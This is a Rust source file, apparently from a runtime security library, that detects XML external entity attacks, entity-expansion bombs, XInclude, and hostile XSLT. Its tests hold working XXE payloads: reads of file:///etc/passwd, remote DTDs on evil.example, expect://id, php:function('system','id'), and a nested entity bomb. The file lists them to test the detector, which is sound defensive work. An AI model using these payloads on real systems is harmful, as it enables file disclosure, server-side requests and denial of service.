//! XML external entities and what is like them (CWE-611, CWE-776, CWE-827; CAPEC-221, 197): does this document make
//! its parser read a file, call an address, or grow? Reads the declaration of the type (XML 1.0 2.8, 4.2), inclusions
//! (XInclude 1.0) and what style sheets may call (XSLT 1.0 12.1 and extensions).
//!
//! Types of documents without declarations of entities, names for characters, SOAP, plist and DocBook are ordinary.
//! A document that stands in a text is shown, not parsed.

use rasp_policy::class::Class;

use crate::ascii;
use crate::decode::Field;
use crate::detector::{Detector, Evidence, Needs, Report, Rule};
use crate::finding::Confidence::{self, Certain, High, Medium};
use crate::finding::{Part, RuleId};
use crate::mask;
use crate::reason::Reason;

pub(crate) static DETECTOR: Detector =
    Detector { class: Class::XmlExternalEntity, needs: NEEDS, inspect, rules };

const NEEDS: Needs = Needs {
    alone: b"",
    bytes: b"<!",
    needles: &[
        "!entity",
        "<!doctype",
        ":include",
        "2001/xinclude",
        "document(",
        "xsl:",
        ":script",
        "xml-stylesheet",
        "schemalocation",
    ],
};

const EXTERNAL: Rule = Rule {
    id: RuleId("xxe-external"),
    reason: "the document declares an entity that is read from a file or an address",
};
const TYPE: Rule =
    Rule { id: RuleId("xxe-type"), reason: "the document has a type that is read from a file or an address" };
const BOMB: Rule = Rule {
    id: RuleId("xxe-bomb"),
    reason: "the document declares entities that grow when they are replaced",
};
const INCLUDE: Rule =
    Rule { id: RuleId("xxe-include"), reason: "the document includes a file or an address" };
const STYLE: Rule =
    Rule { id: RuleId("xxe-stylesheet"), reason: "the style sheet reads a file or an address, or runs code" };

const SCHEMA: Rule = Rule {
    id: RuleId("xxe-schema"),
    reason: "the document has its parser fetch a schema from a host that has nothing to do with its names",
};

fn rules() -> Vec<Rule> {
    vec![EXTERNAL, TYPE, BOMB, INCLUDE, STYLE, SCHEMA]
}

fn inspect(field: &Field<'_>, report: &mut Report<'_>) -> Result<(), Reason> {
    report.budget().work(4 * field.value.len())?;
    let is_asked = matches!(field.part, Part::Query | Part::Form);
    let found = detect(field.value).filter(|found| found.confidence >= High || !is_asked);
    let found = found.or_else(|| if is_asked { schema(field.value) } else { None });
    let found = found.or_else(|| detect(field.value)).or_else(|| bare_entity(field));
    let Some(Found { rule, confidence, start, end }) = found else { return Ok(()) };
    let sample = mask::sample(field.value.get(start..end).unwrap_or_default(), is_word);
    report.find(field, Evidence { rule, confidence, at: start..end, sample });
    Ok(())
}

fn is_word(word: &[u8]) -> bool {
    let words: &[&str] = &[
        "ENTITY", "DOCTYPE", "SYSTEM", "PUBLIC", "file", "http", "https", "xi", "include", "document", "xsl",
    ];
    words.iter().any(|known| word.eq_ignore_ascii_case(known.as_bytes()))
}

#[derive(Clone, Copy, Debug)]
struct Found {
    rule: Rule,
    confidence: Confidence,
    start: usize,
    end: usize,
}

fn detect(value: &[u8]) -> Option<Found> {
    let start = value.iter().take_while(|byte| byte.is_ascii_whitespace() || **byte >= 0xEF).take(8).count();
    // A document begins with markup; a value that closes an element begins with a little text.
    let first = memchr::memchr(b'<', value)?;
    let before = value.get(start.min(first)..first)?;
    let is_document =
        before.len() < 24 && memchr::memchr_iter(b' ', before).take(2).count() < 2 && !before.contains(&b'`');
    let mut best: Option<Found> = None;
    let mut grows = 0;
    for at in memchr::memchr_iter(b'<', value) {
        let rest = value.get(at..).unwrap_or_default();
        let found = match rest.get(1) {
            Some(b'!') => declaration(rest, &mut grows),
            Some(b'/' | b'?') | None => None,
            Some(_) => element(rest, value),
        };
        let Some((rule, confidence)) = found else { continue };
        let confidence = if is_document { confidence } else { confidence.min(Medium) };
        if best.is_none_or(|known| confidence > known.confidence) {
            let end = at + memchr::memchr(b'>', rest).map_or(rest.len(), |end| end + 1);
            best = Some(Found { rule, confidence, start: at, end });
        }
        if confidence == Certain {
            break;
        }
    }
    // A type, and nothing that is of it.
    let is_element = |at: usize| value.get(at + 1).is_some_and(u8::is_ascii_alphabetic);
    best.map(|found| {
        let is_public =
            value.get(found.start..found.end).is_some_and(|text| ascii::contains(text, b"public"));
        let is_bare = found.rule.id == TYPE.id
            && is_public
            && is_document
            && !memchr::memchr_iter(b'<', value).any(is_element);
        Found { confidence: if is_bare { found.confidence.max(High) } else { found.confidence }, ..found }
    })
}

/// `!ENTITY % a SYSTEM`: a declaration that lost its bracket, where no document is asked for.
fn bare_entity(field: &Field<'_>) -> Option<Found> {
    let value = field.value;
    if !field.part.is_parameter() || value.len() > 256 || value.contains(&b'`') {
        return None;
    }
    let start = memchr::memmem::find(value, b"!ENTITY")?;
    let rest = blank(value.get(start + b"!ENTITY".len()..)?)?;
    let (name, rest) = name(blank(rest.strip_prefix(b"%")?)?);
    let rest = blank(rest)?;
    let is_external = !name.is_empty() && (rest.starts_with(b"SYSTEM") || rest.starts_with(b"PUBLIC"));
    is_external.then_some(Found { rule: EXTERNAL, confidence: High, start, end: value.len() })
}

fn after<'a>(text: &'a [u8], start: &[u8]) -> Option<&'a [u8]> {
    let (head, rest) = text.split_at_checked(start.len())?;
    head.eq_ignore_ascii_case(start).then_some(rest)
}

/// Skips at least one blank.
fn blank(text: &[u8]) -> Option<&[u8]> {
    let trimmed = text.trim_ascii_start();
    (trimmed.len() < text.len()).then_some(trimmed)
}

/// A name, and what stands behind it.
fn name(text: &[u8]) -> (&[u8], &[u8]) {
    let is_end = |byte: &u8| byte.is_ascii_whitespace() || b"<>[]\"'=/".contains(byte);
    let length = text.iter().take(256).position(is_end).unwrap_or(text.len().min(256));
    text.split_at_checked(length).unwrap_or((text, &[]))
}

/// A text in quotes, and what stands behind it. One that breaks off is read as far as it came.
fn quoted(text: &[u8]) -> Option<(&[u8], &[u8])> {
    let (quote, rest) = text.split_first()?;
    if !matches!(quote, b'"' | b'\'') {
        return None;
    }
    let window = rest.get(..LONGEST).unwrap_or(rest);
    let length = memchr::memchr(*quote, window).unwrap_or(window.len());
    Some((rest.get(..length)?, rest.get(length + 1..).unwrap_or_default()))
}

const LONGEST: usize = 4096;

fn declaration(rest: &[u8], grows: &mut usize) -> Option<(Rule, Confidence)> {
    if let Some(rest) = after(rest, b"<!ENTITY") {
        return entity(blank(rest)?, grows);
    }
    let (_, rest) = name(blank(after(rest, b"<!DOCTYPE")?)?);
    let rest = blank(rest)?;
    if let Some(rest) = after(rest, b"SYSTEM") {
        let (address, _) = quoted(rest.trim_ascii_start())?;
        let confidence = match place(address) {
            Place::Elsewhere if is_known(address) => return None,
            Place::Elsewhere | Place::Local => High,
            Place::Beside => Medium,
        };
        return Some((TYPE, confidence));
    }
    let (_, rest) = quoted(after(rest, b"PUBLIC")?.trim_ascii_start())?;
    let (address, _) = quoted(rest.trim_ascii_start())?;
    let is_elsewhere =
        place(address) == Place::Elsewhere && !is_known(address) || place(address) == Place::Local;
    is_elsewhere.then_some((TYPE, if place(address) == Place::Local { High } else { Medium }))
}

fn entity(rest: &[u8], grows: &mut usize) -> Option<(Rule, Confidence)> {
    let (is_parameter, rest) = match rest.strip_prefix(b"%") {
        Some(rest) => (true, rest.trim_ascii_start()),
        None => (false, rest),
    };
    let (name, rest) = name(rest);
    let rest = rest.trim_ascii_start();
    let external = after(rest, b"SYSTEM").or_else(|| after(rest, b"PUBLIC"));
    if let Some(rest) = external {
        let (first, behind) = quoted(rest.trim_ascii_start())?;
        let address = quoted(behind.trim_ascii_start()).map_or(first, |(second, _)| second);
        // Sets of names for characters, as DocBook and XHTML use them.
        let is_set = is_known(address)
            || is_parameter && place(address) == Place::Beside && address.ends_with(b".ent");
        return Some((EXTERNAL, if is_set { Medium } else { Certain }));
    }
    let (value, behind) = quoted(rest)?;
    let references = references(value);
    if references > 0 {
        *grows += 1;
    }
    let is_declaration = is_parameter
        && (memchr::memmem::find(value, b"&#x25;").is_some()
            || memchr::memmem::find(value, b"&#37;").is_some())
        && memchr::memmem::find(value, b"ENTITY").is_some();
    match (references, *grows) {
        _ if is_declaration => Some((EXTERNAL, Certain)),
        (3.., 2..) | (8.., _) => Some((BOMB, Certain)),
        (2.., 3..) => Some((BOMB, High)),
        _ if value.len() >= LONG && value.len() * uses(name, behind) > MOST_REPLACED => Some((BOMB, Certain)),
        _ if value.len() > LONGEST - 1 => Some((BOMB, Medium)),
        _ => None,
    }
}

/// Bytes of an entity that nobody repeats by hand, and bytes that nobody writes with the help of one.
const LONG: usize = 512;
const MOST_REPLACED: usize = 4 << 20;

/// How often an entity is referred to. Entities that are long are few, so that the document is not read often.
fn uses(name: &[u8], document: &[u8]) -> usize {
    memchr::memmem::find_iter(document, &[b"&", name, b";"].concat()).count()
}

/// References to other entities, not to characters.
fn references(value: &[u8]) -> usize {
    let is_entity =
        |at: usize| value.get(at + 1).is_some_and(|byte| byte.is_ascii_alphabetic() || *byte == b'_');
    memchr::memchr2_iter(b'&', b'%', value).filter(|at| is_entity(*at)).count()
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Place {
    Elsewhere,
    /// A file of the machine, or one that is climbed to.
    Local,
    Beside,
}

fn place(address: &[u8]) -> Place {
    let address = address.trim_ascii_start();
    let schemes: &[&[u8]] = &[
        b"http:", b"https:", b"ftp:", b"gopher:", b"jar:", b"netdoc:", b"//", b"\\\\", b"php:", b"expect:",
        b"data:", b"ldap:",
    ];
    if after(address, b"file:").is_some()
        || address.starts_with(b"/") && !address.starts_with(b"//")
        || address.starts_with(b"../..")
    {
        Place::Local
    } else if schemes.iter().any(|scheme| after(address, scheme).is_some()) {
        Place::Elsewhere
    } else {
        Place::Beside
    }
}

/// Hosts that publish types of documents.
const PUBLISHERS: &[&str] = &[
    "w3.org",
    "apple.com",
    "oasis-open.org",
    "sun.com",
    "jboss.org",
    "hibernate.org",
    "sourceforge.net",
    "mybatis.org",
    "springframework.org",
    "apache.org",
    "openoffice.org",
    "docbook.org",
    "adobe.com",
    "xmlsoap.org",
    "jcp.org",
    "eclipse.org",
    "puppycrawl.com",
    "checkstyle.org",
    "google.com",
    "freedesktop.org",
    "gnome.org",
    "kde.org",
    "wapforum.org",
    "oracle.com",
    "openmobilealliance.org",
    "qt.io",
    "niso.org",
    "nih.gov",
    "opensymphony.com",
    "ncbi.nlm.nih.gov",
    "daisy.org",
    "netscape.com",
];

fn is_known(address: &[u8]) -> bool {
    let Some(rest) = after(address, b"http://").or_else(|| after(address, b"https://")) else { return false };
    let host = rest.split(|byte| matches!(byte, b'/' | b':' | b'?' | b'#' | b'@')).next().unwrap_or_default();
    let behind = rest.get(host.len()).copied();
    PUBLISHERS.iter().any(|known| {
        host.strip_suffix(known.as_bytes()).is_some_and(|before| before.is_empty() || before.ends_with(b"."))
    }) && !matches!(behind, Some(b'@'))
}

fn element(rest: &[u8], value: &[u8]) -> Option<(Rule, Confidence)> {
    let (name, _) = name(rest.get(1..)?);
    let colon = memchr::memchr(b':', name)?;
    let (prefix, local) = (name.get(..colon)?, name.get(colon + 1..)?);
    let window = rest.get(..1024).unwrap_or(rest);
    let tag = window.get(..memchr::memchr(b'>', window).unwrap_or(window.len()))?;
    if local.eq_ignore_ascii_case(b"include")
        && !prefix.eq_ignore_ascii_case(b"xsl")
        && !prefix.eq_ignore_ascii_case(b"xs")
        && !prefix.eq_ignore_ascii_case(b"xsd")
    {
        let is_inclusion =
            prefix.eq_ignore_ascii_case(b"xi") || memchr::memmem::find(tag, b"2001/XInclude").is_some();
        let address = attribute(tag, b"href")?;
        return match place(address) {
            _ if !is_inclusion => None,
            Place::Elsewhere | Place::Local => Some((INCLUDE, High)),
            Place::Beside => Some((INCLUDE, Medium)),
        };
    }
    if matches!(prefix, b"msxsl" | b"ms" | b"xalan" | b"lxslt") && local.eq_ignore_ascii_case(b"script") {
        return Some((STYLE, High));
    }
    if !prefix.eq_ignore_ascii_case(b"xsl") {
        return None;
    }
    if matches!(local, b"include" | b"import") {
        let address = attribute(tag, b"href")?;
        return (place(address) != Place::Beside && !is_known(address)).then_some((STYLE, High));
    }
    let expression = attribute(tag, b"select").or_else(|| attribute(tag, b"test"))?;
    let calls = |call: &[u8]| {
        expression.windows(call.len()).position(|window| window == call).map(|at| at + call.len())
    };
    if let Some(at) = [&b"document("[..], b"unparsed-text(", b"doc("].iter().find_map(|call| calls(call)) {
        let argument = quoted(expression.get(at..)?.trim_ascii_start()).map(|(text, _)| text);
        return match argument.map(place) {
            Some(Place::Elsewhere | Place::Local) => Some((STYLE, High)),
            _ => Some((STYLE, Medium)),
        };
    }
    let runs = [
        &b"php:function"[..],
        b"php:functionString",
        b"Runtime",
        b"getRuntime",
        b"java:",
        b"rt:exec",
        b"ob:toString",
    ];
    if runs.iter().any(|call| calls(call).is_some()) {
        return Some((STYLE, High));
    }
    // Which processor runs it is what an attacker asks first.
    let asks = calls(b"system-property(").is_some() && value.len() < 2048;
    asks.then_some((STYLE, Medium))
}

fn attribute<'a>(tag: &'a [u8], wanted: &[u8]) -> Option<&'a [u8]> {
    let mut places = memchr::memmem::find_iter(tag, wanted).take(4);
    places.find_map(|at| {
        let rest = tag.get(at + wanted.len()..)?.trim_ascii_start().strip_prefix(b"=")?;
        quoted(rest.trim_ascii_start()).map(|(text, _)| text)
    })
}

/// `xsi:schemaLocation="http://a.example/ http://b.example/a.xsd"` (XML Schema 2.6.3; CAPEC-146): pairs of a namespace and
/// where its schema is. Publishers keep both on hosts of their own. A parameter that is a document, and nothing else.
fn schema(value: &[u8]) -> Option<Found> {
    const MARK: &[u8] = b"schemalocation";
    if value.len() > LONGEST / 2 || value.trim_ascii_start().first() != Some(&b'<') {
        return None;
    }
    let at = memchr::memchr2_iter(b's', b'S', value)
        .find(|at| value.get(*at..).is_some_and(|rest| ascii::starts(rest, MARK)))?;
    let rest = value.get(at + MARK.len()..)?.trim_ascii_start().strip_prefix(b"=")?;
    let (list, _) = quoted(rest.trim_ascii_start())?;
    let mut words = list.split(u8::is_ascii_whitespace).filter(|word| !word.is_empty());
    while let (Some(namespace), Some(place)) = (words.next(), words.next()) {
        let (own, other) = (site(namespace), site(place));
        if !own.is_empty() && !other.is_empty() && !own.eq_ignore_ascii_case(other) && !is_known(place) {
            return Some(Found { rule: SCHEMA, confidence: High, start: at, end: at + MARK.len() });
        }
    }
    None
}

/// The last two labels of the host of an address.
fn site(address: &[u8]) -> &[u8] {
    let rest = after(address, b"http://").or_else(|| after(address, b"https://")).unwrap_or_default();
    let host = rest.split(|byte| matches!(byte, b'/' | b':' | b'?' | b'#')).next().unwrap_or_default();
    let mut dots = memchr::memrchr_iter(b'.', host);
    let _top = dots.next();
    dots.next().and_then(|at| host.get(at + 1..)).unwrap_or(host)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn a_declaration_without_its_bracket_is_an_attack_where_no_document_is_asked_for() {
        let is_found = |part, value: &[u8]| bare_entity(&Field { part, name: b"a", value }).is_some();
        assert!(is_found(Part::Header, b"a!ENTITY % b SYSTEM"));
        assert!(is_found(Part::Query, b"!ENTITY  %  b PUBLIC 'c'"));
        assert!(!is_found(Part::Json, b"!ENTITY % b SYSTEM"));
        for value in [
            "!ENTITY b SYSTEM",
            "!ENTITY % b",
            "write `!ENTITY % b SYSTEM`",
            "!ENTITY% b SYSTEM",
            "ENTITY % b SYSTEM",
        ] {
            assert!(!is_found(Part::Query, value.as_bytes()), "{value}");
        }
    }

    #[test]
    fn documents_that_reach_out_are_attacks() {
        let rows: &[&str] = &[
            "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
            "<!DOCTYPE a [ <!ENTITY % b SYSTEM 'http://evil.example/a.dtd'> %b; ]><a/>",
            "<!DOCTYPE a [<!ENTITY b PUBLIC \"x\" \"http://evil.example/a\">]><a>&b;</a>",
            "<!DOCTYPE a [<!ENTITY b SYSTEM \"expect://id\">]>",
            "<!ENTITY % a \"<!ENTITY &#x25; b SYSTEM 'file:///a'>\">",
            "<!DOCTYPE a SYSTEM \"http://evil.example/a.dtd\"><a/>",
            "<!DOCTYPE a SYSTEM \"//x/y\" > <a>b</a>",
            "<!DOCTYPE a [<!ENTITY b \"c\"><!ENTITY d \"&b;&b;&b;&b;\"><!ENTITY e \"&d;&d;&d;&d;\">]><a>&e;</a>",
            "<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></a>",
            "<xsl:stylesheet version=\"1.0\"><xsl:value-of select=\"document('http://evil.example/')\"/></xsl:stylesheet>",
            "<xsl:stylesheet><xsl:value-of select=\"php:function('system','id')\"/></xsl:stylesheet>",
            "<xsl:stylesheet><msxsl:script language=\"C#\">a</msxsl:script></xsl:stylesheet>",
            "x</name><!ENTITY a SYSTEM 'file:///a'>",
            "<!DOCTYPE a PUBLIC \"-//B/A/EN\" \"http://evil.example\">",
            "<!doctype a [<!entity b system \"file:///a",
        ];
        for row in rows {
            let found = detect(row.as_bytes());
            assert!(found.is_some_and(|found| found.confidence >= High), "{row}: {found:?}");
        }
    }

    #[test]
    fn schemas_of_other_hosts_are_fetched_for_an_attacker() {
        let document = |list: &str| format!("<a xmlns=\"urn:a\" xsi:schemaLocation=\"{list}\">b</a>");
        let attacks = [
            "http://a.example/ http://evil.test/a.xsd",
            "http://a.example/ http://a.example/a.xsd http://b.example/ https://x.evil.test:8080/b",
            "https://www.w3.org/2001/a http://203.0.113.7/a.xsd",
        ];
        for list in attacks {
            assert!(schema(document(list).as_bytes()).is_some(), "{list}");
        }
        let ordinary = [
            "http://a.example/ns a.xsd",
            "urn:a:b http://b.example/b.xsd",
            "http://a.example/ns http://www.a.example/schema/a.xsd",
            "http://a.example/ns http://schemas.a.example/a.xsd",
            "http://a.example/ns https://www.w3.org/2001/xml.xsd",
            "http://a.example/",
            "",
        ];
        for list in ordinary {
            assert!(schema(document(list).as_bytes()).is_none(), "{list}");
        }
        let text = "it says xsi:schemaLocation=\"http://a.example/ http://evil.test/a.xsd\"";
        assert!(schema(text.as_bytes()).is_none());
    }

    #[test]
    fn ordinary_documents_are_ordinary() {
        let rows: &[&str] = &[
            "<!DOCTYPE html><html></html>",
            "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">",
            "<!DOCTYPE html SYSTEM \"about:legacy-compat\">",
            "<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\">",
            "<?xml version=\"1.0\"?><!DOCTYPE xsl:stylesheet [ <!ENTITY nbsp \"&#160;\"> <!ENTITY copy \"&#169;\"> ]><a/>",
            "<!DOCTYPE a [<!ENTITY company \"Example\"><!ENTITY title \"The &company; book\">]><a/>",
            "<!DOCTYPE note SYSTEM \"note.dtd\"><note/>",
            "<!DOCTYPE note PUBLIC \"-//Example//Note//EN\" \"http://example.org/note.dtd\"><note/>",
            "<!DOCTYPE html PUBLIC \"-//W3C//DTD HTML 4.01//EN\" \"http://www.w3.org/TR/html4/strict.dtd\">",
            "<soap:Envelope><soap:Body><a>b</a></soap:Body></soap:Envelope>",
            "<xs:include schemaLocation=\"a.xsd\"/>",
            "<chapter xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"chapter2.xml\"/></chapter>",
            "<xsl:include href=\"common.xsl\"/>",
            "<xsl:value-of select=\"document('labels.xml')/a\"/>",
            "An entity such as `<!ENTITY a SYSTEM \"file:///etc/passwd\">` makes the parser read a file.",
            "<p>a < b</p>",
            "",
        ];
        for row in rows {
            let found = detect(row.as_bytes());
            assert!(found.is_none_or(|found| found.confidence < High), "{row}: {found:?}");
        }
    }

    #[test]
    fn one_long_entity_is_a_bomb_where_it_stands_often() {
        let document = |length: usize, count: usize| {
            let (entity, uses) = ("b".repeat(length), "&c;".repeat(count));
            format!("<!DOCTYPE a [<!ENTITY c \"{entity}\">]><a>{uses}</a>")
        };
        for (length, count, expected) in
            [(5_000, 2_000, true), (1_000, 5_000, true), (1_000, 100, false), (5_000, 3, false)]
        {
            let found = detect(document(length, count).as_bytes());
            let is_bomb = found.is_some_and(|found| found.rule.id == BOMB.id && found.confidence == Certain);
            assert_eq!(is_bomb, expected, "{length} {count} {found:?}");
        }
    }

    proptest! {
        #[test]
        fn no_bytes_panic(value in "(<!ENTITY|<!DOCTYPE|<xi:include|<xsl:a|[ %a\"'&;=<>]|SYSTEM|PUBLIC|href|select|.){0,24}") {
            if let Some(found) = detect(value.as_bytes()) {
                prop_assert!(found.start <= found.end && found.end <= value.len());
            }
        }
    }
}
